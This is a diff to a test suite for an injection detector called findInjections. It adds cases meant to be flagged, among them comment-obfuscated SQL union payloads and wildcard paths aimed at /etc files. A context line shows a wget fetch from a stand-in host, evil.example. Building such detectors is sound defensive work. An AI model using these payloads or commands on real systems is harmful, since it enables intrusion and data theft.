@@ -71,6 +71,11 @@ describe('malicious input: what the issue names', () => {
     ['python3 -c "import os"', 'command'],
     ["node -e 'require(1)'", 'command'],
     ['wget http://evil.example/x.sh', 'command'],
+    ['if "%~1"=="" goto end', 'command'],
+    ['0/**/union/*!50000select*/1', 'sqli'],
+    ['1 union/* x */select 2', 'sqli'],
+    ['/???/??????', 'traversal'],
+    ['/etc/pa*', 'traversal'],
   ])('%s is %s (call and batch grammar)', (text, kind) => {
     expect(findInjections([text])).toContain(kind);
   });
@@ -86,6 +91,10 @@ describe('malicious input: what the issue names', () => {
     'wget vs curl',
     'node -v',
     'for i in (1,2) do',
+    '*/*',
+    'x/*',
+    'text/*; q=0.8',
+    '/** docs */ function f() {}',
   ])('%s is prose or a harmless snippet', (text) => {
     expect(findInjections([text])).toEqual([]);
   });
